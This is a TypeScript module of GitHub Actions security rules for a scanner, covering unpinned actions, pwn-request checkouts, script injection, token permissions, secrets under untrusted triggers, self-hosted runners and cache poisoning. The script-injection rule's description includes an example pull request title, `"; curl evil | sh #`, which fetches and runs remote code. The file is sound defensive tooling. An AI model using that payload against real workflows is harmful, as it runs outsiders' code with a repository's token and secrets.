/**
 * GitHub Actions rules, after zizmor and StepSecurity: unpinned actions,
 * untrusted checkouts in privileged triggers, script injection, permissions,
 * secrets under untrusted triggers, self-hosted runners on pull requests and
 * cache poisoning. Each risk is reported once, at its line.
 *
 * Action metadata files (`action.yml`) share the model: a composite action's
 * `runs.steps` are one job, so the step rules (unpinned `uses:`, script
 * injection) apply as they are, and `inputs.*` counts as attacker-controlled
 * there — the action cannot know what its callers pass. Rules about triggers
 * and the token find nothing in an action, which has neither. A reusable
 * workflow (`on: workflow_call`) is the same case for its text inputs.
 */
import type { Finding } from '../../finding.ts';
import { findingAt, type Rule } from '../../rule.ts';
import { pinning } from '../image.ts';
import { entry, get, items, str, type YNode } from '../yaml.ts';
import { actionRepo, expressions, type Job, type Step, type Workflow } from './parse.ts';

type GRule = Rule<Workflow>;

const FIRST_PARTY = /^(?:actions|github)\//;

export const unpinnedAction: GRule = {
  id: 'gha/unpinned-action',
  severity: 'medium',
  title: 'Action not pinned to a full commit SHA',
  description:
    'A tag or branch of an action can be moved by its owner or by whoever compromises the repository (tj-actions/changed-files, 2025), and the next run executes the new code with your secrets. Pin `uses:` to a full 40-character commit SHA (with the tag in a comment) and let Dependabot or Renovate update it. First-party `actions/*` and `github/*` tag pins are reported as low.',
  references: ['https://docs.zizmor.sh/audits/#unpinned-uses'],
  check(wf, ctx) {
    const out: Finding[] = [];
    const check = (uses: string, line: number) => {
      if (uses.startsWith('./')) return;
      if (uses.startsWith('docker://')) {
        if (pinning(uses.slice(9)) !== 'digest')
          out.push(findingAt(this, ctx, { line }, `${uses} is not pinned by digest`));
        return;
      }
      const at = uses.lastIndexOf('@');
      const ref = at >= 0 ? uses.slice(at + 1) : '';
      if (/^[0-9a-f]{40}$/.test(ref)) return;
      const repo = actionRepo(uses) ?? uses;
      const first = FIRST_PARTY.test(repo);
      out.push(
        findingAt(
          this,
          ctx,
          { line },
          `${uses} is pinned to ${ref === '' ? 'nothing' : `the ref ${ref}`}, not a commit SHA`,
          {
            severity: first ? 'low' : 'medium',
          },
        ),
      );
    };
    for (const j of wf.jobs) {
      // A reusable workflow call (`jobs.<id>.uses`); an action's `runs` has no such key.
      const u = wf.kind === 'workflow' ? entry(j.node, 'uses') : undefined;
      const v = str(u?.value);
      if (u && v) check(v, u.keyLine);
      for (const s of j.steps) if (s.uses) check(s.uses, s.usesLine);
    }
    // A Docker action's image: `docker://…` is pulled at every run; a Dockerfile is built from the repository.
    if (wf.image?.ref.startsWith('docker://')) check(wf.image.ref, wf.image.line);
    return out;
  },
};

const PRIVILEGED_TRIGGERS = ['pull_request_target', 'workflow_run'];
const HEAD_REF =
  /github\.(?:event\.pull_request\.head\.(?:sha|ref|repo\.full_name)|head_ref|event\.workflow_run\.head_(?:sha|branch|repository\.full_name)|event\.workflow_run\.pull_requests|event\.pull_request\.number|event\.number)|refs\/pull\//;

/** Steps of a job that fetch the pull request's code. */
function untrustedCheckouts(j: Job): { step: Step; line: number; what: string }[] {
  const out: { step: Step; line: number; what: string }[] = [];
  for (const s of j.steps) {
    if (s.uses && actionRepo(s.uses) === 'actions/checkout') {
      for (const k of ['ref', 'repository']) {
        const e = entry(get(s.node, 'with'), k);
        const v = str(e?.value);
        if (e && v && HEAD_REF.test(v))
          out.push({ step: s, line: e.keyLine, what: `actions/checkout ${k}: ${v}` });
      }
    }
    const run = str(s.run);
    if (run) {
      const m =
        /\bgh\s+pr\s+checkout\b|\bgit\s+(?:fetch|checkout|pull)\b[^\n]*(?:refs\/pull\/|pull\/\S+\/head|\$\{\{\s*github\.(?:event\.pull_request\.head|head_ref|event\.workflow_run\.head))/.exec(
          run,
        );
      if (m && s.run) out.push({ step: s, line: s.run.line, what: m[0].slice(0, 80) });
    }
  }
  return out;
}

export const untrustedCheckout: GRule = {
  id: 'gha/untrusted-checkout',
  severity: 'critical',
  title: 'pull_request_target / workflow_run checks out the pull request',
  description:
    "pull_request_target and workflow_run run with the base repository's secrets and a write token; checking out the pull request's head and then building or running it executes an outsider's code with those privileges (\"pwn request\"). Use `pull_request` for building untrusted code, or keep the checkout away from any step that runs it and from secrets.",
  references: ['https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/'],
  check(wf, ctx) {
    if (!PRIVILEGED_TRIGGERS.some((t) => wf.triggers.has(t))) return [];
    return wf.jobs.flatMap((j) =>
      untrustedCheckouts(j).map((c) =>
        findingAt(
          this,
          ctx,
          { line: c.line },
          `${j.label}: ${c.what} under ${[...wf.triggers].filter((t) => PRIVILEGED_TRIGGERS.includes(t)).join(', ')}`,
        ),
      ),
    );
  },
};

/**
 * An action's inputs: whatever the calling workflow passes, which may well be
 * a pull request title (zizmor's template-injection flags them too). The
 * `inputs` context only: `github.event.inputs.*` is the calling run's
 * `workflow_dispatch` inputs, set by someone with write access.
 */
const ACTION_INPUT =
  /(?<![.\w-])inputs(?:\.[A-Za-z_][A-Za-z0-9_-]*|\[\s*(?:'[^']*'|"[^"]*")\s*\])|toJSON\(\s*inputs\s*\)/;
const INPUT_REFS = new RegExp(ACTION_INPUT.source, 'g');

/** Input types whose value GitHub checks before the run: they cannot carry shell text. */
const NON_TEXT_INPUT = new Set(['boolean', 'number']);

/**
 * The first `inputs.*` reference in `expr` that a reusable workflow's caller
 * controls, or undefined. Under `on: workflow_call` the calling workflow
 * passes the inputs — as it may pass a pull request title — exactly as for a
 * composite action (zizmor's template-injection flags them too). Not counted:
 * inputs declared there as `boolean` or `number` (GitHub rejects other
 * values), and inputs declared only under `workflow_dispatch`, which only
 * someone with write access to the repository can set — the rule has never
 * counted dispatch inputs (`inputs.*` or `github.event.inputs.*`) in a
 * workflow, and `github.event.inputs.*` in a called workflow is the calling
 * run's dispatch inputs, so it stays unflagged too. An input declared under
 * neither, or `toJSON(inputs)` with any text input, counts: fail closed.
 * Input names are case-insensitive in expressions.
 */
function callerInput(wf: Workflow, expr: string): string | undefined {
  if (wf.kind !== 'workflow' || !wf.triggers.has('workflow_call')) return undefined;
  const lower = (m: Map<string, string>) => new Map([...m].map(([k, v]) => [k.toLowerCase(), v]));
  const call = lower(wf.inputs.call);
  const dispatch = lower(wf.inputs.dispatch);
  for (const m of expr.matchAll(INPUT_REFS)) {
    const ref = /^inputs(?:\.(.+)|\[\s*['"](.*)['"]\s*\])$/.exec(m[0]);
    if (!ref) {
      // toJSON(inputs): the whole context.
      if (call.size === 0 || [...call.values()].some((t) => !NON_TEXT_INPUT.has(t))) return m[0];
      continue;
    }
    const name = (ref[1] ?? ref[2] ?? '').toLowerCase();
    const type = call.get(name);
    if (type === undefined ? !dispatch.has(name) : !NON_TEXT_INPUT.has(type)) return m[0];
  }
  return undefined;
}

/** Contexts an outsider can set (GitHub security hardening guide, zizmor). */
const ATTACKER_CONTEXT =
  /\bgithub\.(?:head_ref|event\.(?:issue\.(?:title|body)|pull_request\.(?:title|body|head\.(?:ref|label|repo\.default_branch))|comment\.body|review\.body|review_comment\.body|pages(?:\.\*|\[\d+\])\.page_name|commits(?:\.\*|\[\d+\])\.(?:message|author\.(?:email|name))|head_commit\.(?:message|author\.(?:email|name))|discussion\.(?:title|body)|workflow_run\.(?:head_branch|display_title|head_commit\.(?:message|author\.(?:email|name))|pull_requests(?:\.\*|\[\d+\])\.head\.ref)))\b|toJSON\(\s*github\.event\s*\)/;

export const scriptInjection: GRule = {
  id: 'gha/script-injection',
  severity: 'high',
  title: 'Attacker-controlled context expanded into a script',
  description:
    // biome-ignore lint/suspicious/noTemplateCurlyInString: GitHub expression syntax, not a JS template
    '`${{ … }}` is pasted into the script text before the shell (or github-script) runs it, so a pull request title like `"; curl evil | sh #` becomes code running with the job\'s token and secrets — in bash, PowerShell (`shell: pwsh`, Windows runners) or any other shell alike. In a composite action (`action.yml`) `inputs.*` counts too: the action cannot know what its callers pass; so do a reusable workflow\'s (`on: workflow_call`) text inputs, set by whichever workflow calls it (`boolean` and `number` inputs cannot carry text, and `workflow_dispatch` inputs are set by someone with write access, so neither is reported). Pass the value through an environment variable (`env: TITLE: ${{ github.event.pull_request.title }}` and use `"$TITLE"`, or `$env:TITLE` in PowerShell).',
  references: [
    'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections',
  ],
  check(wf, ctx) {
    const out: Finding[] = [];
    for (const j of wf.jobs)
      for (const s of j.steps) {
        const targets: YNode[] = [];
        if (s.run) targets.push(s.run);
        if (s.uses && actionRepo(s.uses) === 'actions/github-script') {
          const sc = get(s.node, 'with', 'script');
          if (sc) targets.push(sc);
        }
        for (const t of targets)
          for (const e of expressions(wf, t)) {
            const attacker = ATTACKER_CONTEXT.exec(e.expr)?.[0];
            const input =
              attacker === undefined
                ? wf.kind === 'action'
                  ? ACTION_INPUT.exec(e.expr)?.[0]
                  : callerInput(wf, e.expr)
                : undefined;
            const what = attacker ?? input;
            if (what === undefined) continue;
            const why =
              attacker !== undefined
                ? 'is attacker-controlled'
                : wf.kind === 'action'
                  ? "is whatever the action's caller passes"
                  : "is whatever the reusable workflow's caller passes";
            out.push(
              findingAt(
                this,
                ctx,
                { line: e.line, column: e.column },
                `${j.label}: \${{ ${e.expr} }} is expanded into the script (${what} ${why})`,
              ),
            );
          }
      }
    return out;
  },
};

export const excessivePermissions: GRule = {
  id: 'gha/excessive-permissions',
  severity: 'medium',
  title: 'Missing or write-all permissions',
  description:
    'Without a `permissions:` block the GITHUB_TOKEN gets the repository default, which is read-write on older repositories and organisations; `write-all` grants every scope. Declare `permissions: {}` or `contents: read` at the top and widen per job only what that job needs.',
  references: ['https://docs.zizmor.sh/audits/#excessive-permissions'],
  check(wf, ctx) {
    // An action runs with the token of the workflow that calls it.
    if (wf.kind === 'action') return [];
    const out: Finding[] = [];
    const top = entry(wf.root, 'permissions');
    if (top && str(top.value) === 'write-all')
      out.push(
        findingAt(this, ctx, { line: top.keyLine }, 'workflow permissions: write-all', {
          severity: 'high',
        }),
      );
    const missing: Job[] = [];
    for (const j of wf.jobs) {
      const p = entry(j.node, 'permissions');
      if (p && str(p.value) === 'write-all')
        out.push(
          findingAt(this, ctx, { line: p.keyLine }, `job ${j.id}: permissions: write-all`, {
            severity: 'high',
          }),
        );
      // A job calling a reusable workflow gets its permissions from the caller.
      if (!p && !top) missing.push(j);
    }
    if (missing.length > 0) {
      const jobsKey = entry(wf.root, 'jobs');
      out.push(
        findingAt(
          this,
          ctx,
          { line: jobsKey?.keyLine ?? 1 },
          `no top-level permissions and ${missing.length === wf.jobs.length ? 'no job sets any' : `jobs without permissions: ${missing.map((j) => j.id).join(', ')}`}: the token gets the repository default`,
        ),
      );
    }
    return out;
  },
};

const UNTRUSTED_TRIGGERS = [
  'pull_request_target',
  'workflow_run',
  'issue_comment',
  'issues',
  'discussion',
  'discussion_comment',
  'pull_request_review_comment',
];

export const secretsUnderUntrustedTrigger: GRule = {
  id: 'gha/secrets-untrusted-trigger',
  severity: 'low',
  title: 'Secrets used in a job an outsider can trigger',
  description:
    "Jobs run by pull_request_target, workflow_run, issue_comment and similar events start at an outsider's action and run with the repository's secrets; together with an injection or a checkout of untrusted code those secrets leak. Move secret-using steps to a workflow outsiders cannot trigger, or gate them behind an environment with required reviewers. High when the same job checks out the pull request.",
  check(wf, ctx) {
    if (!UNTRUSTED_TRIGGERS.some((t) => wf.triggers.has(t))) return [];
    const out: Finding[] = [];
    for (const j of wf.jobs) {
      if (entry(j.node, 'environment')) continue; // reviewers can gate it
      const src = wf.text.slice(j.node.start, j.node.end);
      const m =
        /\bsecrets\.(?!GITHUB_TOKEN\b)[A-Za-z_][A-Za-z0-9_]*|\bsecrets:\s*inherit\b|toJSON\(\s*secrets\s*\)/.exec(
          src,
        );
      if (!m) continue;
      const line = wf.stream.pos(j.node.start + (m.index ?? 0)).line;
      const runsUntrusted = untrustedCheckouts(j).length > 0;
      out.push(
        findingAt(
          this,
          ctx,
          { line },
          `${j.label} uses ${m[0]} under ${UNTRUSTED_TRIGGERS.filter((t) => wf.triggers.has(t)).join(', ')}${runsUntrusted ? ' and checks out the pull request' : ''}`,
          {
            severity: runsUntrusted ? 'high' : 'low',
          },
        ),
      );
    }
    return out;
  },
};

const PR_TRIGGERS = [
  'pull_request',
  'pull_request_target',
  'pull_request_review',
  'pull_request_review_comment',
];

export const selfHostedOnPullRequest: GRule = {
  id: 'gha/self-hosted-pull-request',
  severity: 'high',
  title: 'Self-hosted runner used for pull requests',
  description:
    'On a public repository anyone can open a pull request; a self-hosted runner then executes their code on your machine, which usually persists between jobs and sits inside your network. Run pull-request jobs on GitHub-hosted or ephemeral, isolated runners.',
  check(wf, ctx) {
    if (!PR_TRIGGERS.some((t) => wf.triggers.has(t))) return [];
    const out: Finding[] = [];
    for (const j of wf.jobs) {
      const e = entry(j.node, 'runs-on');
      if (!e) continue;
      const labels = [
        e.value,
        ...items(e.value),
        ...items(get(e.value, 'labels')),
        get(e.value, 'labels'),
      ]
        .map((n) => str(n))
        .filter((x): x is string => x !== undefined);
      if (labels.some((l) => l.toLowerCase() === 'self-hosted'))
        out.push(
          findingAt(
            this,
            ctx,
            { line: e.keyLine },
            `job ${j.id} runs on a self-hosted runner for pull requests`,
          ),
        );
    }
    return out;
  },
};

/** Steps that restore a cache: actions/cache, setup-* with caching on. */
function cacheStep(s: Step): string | undefined {
  if (!s.uses) return undefined;
  const repo = actionRepo(s.uses);
  const w = get(s.node, 'with');
  if (repo === 'actions/cache') return s.uses.includes('/save') ? undefined : 'actions/cache';
  if (repo === 'swatinem/rust-cache') return 'Swatinem/rust-cache';
  if (repo === 'actions/setup-go') {
    const c = str(get(w, 'cache'));
    const major = Number(/@v(\d+)/.exec(s.uses)?.[1] ?? '0');
    return c === 'false' || (c === undefined && major > 0 && major < 4)
      ? undefined
      : 'actions/setup-go caching';
  }
  if (repo && /^actions\/setup-(?:node|python|java|dotnet)$/.test(repo)) {
    const c = str(get(w, 'cache'));
    return c && c !== 'false' ? `${repo} cache: ${c}` : undefined;
  }
  if (repo === 'astral-sh/setup-uv' && str(get(w, 'enable-cache')) === 'true')
    return 'astral-sh/setup-uv enable-cache';
  return undefined;
}

function isRelease(wf: Workflow): boolean {
  if (wf.triggers.has('release')) return true;
  const tags = get(get(wf.root, 'on'), 'push', 'tags');
  return tags !== undefined;
}

export const cachePoisoning: GRule = {
  id: 'gha/cache-poisoning',
  severity: 'medium',
  title: 'Cache restored in a privileged or release workflow',
  description:
    "Caches are shared across workflows of a repository: a pull_request_target job (running for an outsider) can write an entry that a release job later restores, and a release built from a poisoned cache ships the attacker's code. Do not restore caches in release or pull_request_target workflows; build releases from clean state.",
  references: ['https://docs.zizmor.sh/audits/#cache-poisoning'],
  check(wf, ctx) {
    const why = wf.triggers.has('pull_request_target')
      ? 'pull_request_target'
      : isRelease(wf)
        ? 'release'
        : undefined;
    if (!why) return [];
    const out: Finding[] = [];
    for (const j of wf.jobs)
      for (const s of j.steps) {
        const c = cacheStep(s);
        if (c)
          out.push(
            findingAt(this, ctx, { line: s.usesLine }, `${j.label}: ${c} in a ${why} workflow`),
          );
      }
    return out;
  },
};

export const GITHUB_ACTIONS_RULES: readonly GRule[] = [
  unpinnedAction,
  untrustedCheckout,
  scriptInjection,
  excessivePermissions,
  secretsUnderUntrustedTrigger,
  selfHostedOnPullRequest,
  cachePoisoning,
];
